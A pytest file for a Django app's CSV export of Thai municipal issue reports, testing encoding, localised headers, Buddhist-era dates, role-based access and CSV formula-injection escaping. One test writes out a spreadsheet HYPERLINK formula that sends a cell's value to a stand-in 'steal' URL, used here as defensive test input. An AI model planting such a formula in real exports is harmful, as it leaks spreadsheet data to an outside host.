import csv
import datetime
import io

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext

from communities.models import Community, Department
from issues import selectors, services
from issues.export import neutralise
from issues.models import Status
from meetings import services as meeting_services
from tests.issues.conftest import bulk_issues

pytestmark = pytest.mark.django_db

EXPORT = reverse("issues:export")


@pytest.fixture
def eng_issue(make_issue):
    """Routed to สำนักการช่าง (the officer's department), in community 1 (the leader's)."""
    return make_issue(title="ถนนชำรุดหน้าศาลาชุมชน")


@pytest.fixture
def health_issue(make_issue):
    """Routed to public health, in community 2: neither the officer's nor the leader's."""
    return make_issue(category_code="garbage", community_number=2, title="ขยะตกค้างริมคลอง")


# The columns by their msgids, so tests read a row by name in any language.
COLUMNS = [
    "Reference",
    "Fiscal year",
    "Community no.",
    "Community",
    "Category",
    "Title",
    "Description",
    "Location",
    "Latitude",
    "Longitude",
    "Raised at meeting",
    "Raised by",
    "Department",
    "Follow-up team",
    "Priority",
    "Status",
    "Overdue",
    "Target date",
    "Target date (B.E.)",
    "Received",
    "Received (B.E.)",
    "Resolved",
    "Resolved (B.E.)",
    "Closed/ended",
    "Closed/ended (B.E.)",
    "Latest public progress",
]


def download(client, query: dict | None = None):
    """Return the response, its header row and its rows as dicts keyed by ``COLUMNS``."""
    response = client.get(EXPORT, query or {})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    header, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    assert len(header) == len(COLUMNS)
    return response, header, [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def references(rows) -> set[str]:
    return {row["Reference"] for row in rows}


def test_csv_is_utf8_with_bom_and_thai_survives_the_round_trip(
    client, staff_user, eng_issue, today
):
    client.force_login(staff_user)
    response, header, rows = download(client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="issues-{today.year + 543}-{today:%m-%d}.csv"'
    )
    assert header[:3] == ["เลขที่", "ปีงบประมาณ", "ชุมชนลำดับที่"]
    with translation.override("th"):
        assert header == [gettext(column) for column in COLUMNS]
        forwarded = str(Status.FORWARDED.label)
        community = Community.objects.get(number=1).name
    (row,) = rows
    assert row["Reference"] == eng_issue.reference
    assert row["Title"] == "ถนนชำรุดหน้าศาลาชุมชน"
    assert row["Community"] == community
    assert row["Status"] == forwarded
    assert row["Received"] == today.isoformat()


def test_english_users_get_english_headers(client, staff_user, eng_issue):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(staff_user)
    _response, header, rows = download(client)
    assert header == COLUMNS
    assert rows[0]["Status"] == "Forwarded to department"


def test_meeting_department_and_flags_are_readable(client, staff_user, make_issue, yesterday):
    meeting = meeting_services.meeting_create(
        actor=staff_user, date=datetime.date(2026, 3, 3), venue="ห้องประชุม"
    )
    make_issue(
        meeting=meeting,
        raised_by="ประธานชุมชน",
        latitude="12.568400",
        longitude="99.957600",
        follow_up_team=True,
        target_date=yesterday,
    )
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(staff_user)
    _response, _header, (row,) = download(client)
    with translation.override("en"):
        assert row["Raised at meeting"] == meeting.number_label == f"{meeting.number}/2026"
        assert row["Department"] == Department.objects.get(code="ENG").name
    assert (row["Latitude"], row["Longitude"]) == ("12.568400", "99.957600")
    assert (row["Follow-up team"], row["Overdue"], row["Priority"]) == ("Yes", "Yes", "Normal")


def test_dates_are_iso_and_buddhist_era_on_the_bangkok_calendar(client, staff_user, make_issue):
    # 18:30 UTC is already 01:30 the next morning in Bangkok.
    received = datetime.datetime(2026, 3, 2, 18, 30, tzinfo=datetime.UTC)
    make_issue(at=received, target_date=datetime.date(2026, 4, 30))
    client.force_login(staff_user)
    _response, header, (row,) = download(client)
    assert (row["Received"], row["Received (B.E.)"]) == ("2026-03-03", "3/3/2569")
    assert (row["Target date"], row["Target date (B.E.)"]) == ("2026-04-30", "30/4/2569")
    assert (row["Resolved"], row["Resolved (B.E.)"]) == ("", "")
    assert "วันที่รับแจ้ง (พ.ศ.)" in header


def test_filters_of_the_list_page_apply(client, staff_user, eng_issue, health_issue):
    client.force_login(staff_user)
    _response, _header, rows = download(client, {"q": "ตกค้าง"})
    assert references(rows) == {health_issue.reference}
    eng = Department.objects.get(code="ENG")
    _response, _header, rows = download(client, {"department": eng.pk})
    assert references(rows) == {eng_issue.reference}
    _response, _header, rows = download(client)
    assert references(rows) == {eng_issue.reference, health_issue.reference}


def test_a_leader_gets_only_their_community_even_when_asking_for_another(
    client, leader_user, eng_issue, health_issue
):
    client.force_login(leader_user)
    _response, _header, rows = download(client)
    assert references(rows) == {eng_issue.reference}
    other = Community.objects.get(number=2)
    _response, _header, rows = download(client, {"community": other.pk})
    assert rows == []


def test_an_officers_open_issues_are_exactly_their_worklist(
    client, officer_user, make_issue, eng_issue, health_issue
):
    make_issue(Status.CLOSED, title="ซ่อมไฟทางแล้ว")
    make_issue(Status.IN_PROGRESS, community_number=3, title="ท่อระบายน้ำอุดตัน")
    client.force_login(officer_user)
    _response, _header, rows = download(client, {"open": "on"})
    worklist = {issue.reference for issue in selectors.worklist(user=officer_user)}
    assert len(worklist) == 2
    assert references(rows) == worklist


def test_no_role_is_refused_and_anonymous_must_log_in(client, no_role_user, eng_issue):
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
    client.force_login(no_role_user)
    assert client.get(EXPORT).status_code == 403


def test_formulas_typed_by_users_are_neutralised(client, staff_user, make_issue):
    make_issue(
        title='=HYPERLINK("http://example.com/steal?x="&A1,"คลิก")',
        raised_by="@SUM(1+1)",
        location_text="+66 32 511 047",
        description="-1+1",
    )
    client.force_login(staff_user)
    _response, _header, (row,) = download(client)
    assert row["Title"] == '\'=HYPERLINK("http://example.com/steal?x="&A1,"คลิก")'
    assert row["Raised by"] == "'@SUM(1+1)"
    assert row["Location"] == "'+66 32 511 047"
    assert row["Description"] == "'-1+1"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),
        ("ถนน = ชำรุด", "ถนน = ชำรุด"),
        ("", ""),
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_latest_public_progress_leaves_out_internal_notes(
    client, staff_user, officer_user, eng_issue
):
    at = timezone.now()
    services.issue_update(
        issue=eng_issue, actor=officer_user, version=None, note="ผู้รับจ้างเข้าซ่อมสัปดาห์หน้า", at=at
    )
    services.issue_update(
        issue=eng_issue,
        actor=officer_user,
        version=None,
        note="งบประมาณไม่พอ ต้องขอโอน",
        is_public=False,
        at=at + datetime.timedelta(minutes=5),
    )
    client.force_login(staff_user)
    _response, _header, (row,) = download(client)
    assert row["Latest public progress"] == "ผู้รับจ้างเข้าซ่อมสัปดาห์หน้า"


def test_list_page_links_to_the_export_with_its_filters(client, staff_user):
    client.force_login(staff_user)
    response = client.get(reverse("issues:list"), {"q": "ถนน", "open": "on", "page": "2"})
    assert response.context["query"] == "q=%E0%B8%96%E0%B8%99%E0%B8%99&open=on"
    assert f'href="{EXPORT}?q=%E0%B8%96%E0%B8%99%E0%B8%99&amp;open=on"' in response.content.decode()


def test_query_count_is_fixed_whatever_the_number_of_issues(
    client, staff_user, django_assert_max_num_queries
):
    client.force_login(staff_user)
    bulk_issues(10, staff_user=staff_user)
    # The body is read inside the block: a streamed file queries as it is sent.
    with CaptureQueriesContext(connection) as ten:
        download(client)
    bulk_issues(190, staff_user=staff_user, start=10)
    with django_assert_max_num_queries(len(ten)) as two_hundred:
        _response, _header, rows = download(client)
    assert len(rows) == 200
    assert len(two_hundred) == len(ten)
    assert all(row["Latest public progress"].startswith("คืบหน้า") for row in rows)
